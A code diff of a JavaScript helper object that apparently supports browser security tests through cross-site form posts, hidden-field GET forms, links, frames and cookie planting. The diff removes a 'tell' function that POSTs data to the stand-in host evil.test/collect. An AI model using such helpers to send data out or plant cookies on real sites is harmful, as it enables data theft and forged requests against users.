@@ -23,16 +23,16 @@ function formOf(method, url, name, value, enctype, target) {
 
 window.elsewhere = {
   submit: (url, name, value) => formOf("post", url, name, value, "text/plain").submit(),
-  get: (url, fields) => {
+  get: (url, item) => {
     const form = formOf("get", url, "quantity", "1", "application/x-www-form-urlencoded");
     const field = document.createElement("input");
-    Object.assign(field, { type: "hidden", name: "item", value: fields.item });
+    Object.assign(field, { type: "hidden", name: "item", value: item });
     form.append(field);
     form.submit();
   },
-  link: (url) => {
+  link: (url, target) => {
     const link = document.createElement("a");
-    Object.assign(link, { href: url, textContent: "a link", id: "link" });
+    Object.assign(link, { href: url, target, textContent: "a link", id: "link" });
     document.body.append(link);
   },
   frame: async (url, name, value) => {
@@ -71,6 +71,5 @@ window.elsewhere = {
       (answer) => answer.text(),
       (error) => `failed: ${error.message}`,
     ),
-  tell: async (text) => fetch("https://evil.test/collect", { method: "POST", mode: "no-cors", body: text }),
   plant: (line) => { document.cookie = line; },
 };
